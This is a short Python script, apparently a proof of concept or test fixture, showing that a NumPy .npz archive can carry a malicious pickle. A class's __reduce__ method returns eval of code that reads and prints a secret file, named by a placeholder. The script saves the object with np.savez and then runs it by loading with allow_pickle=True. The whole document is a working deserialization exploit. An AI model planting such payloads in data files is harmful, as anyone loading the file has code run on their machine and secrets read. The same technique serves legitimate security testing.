"""An .npz file is a zip, whose members may be pickled."""
import numpy as np
class Bomb:
    def __reduce__(self):
        return eval, ("print(open('@SECRET_FILE@').read())",)
np.savez("bomb.npz", x=np.array([Bomb()], object))
np.load("bomb.npz", allow_pickle=True)["x"]
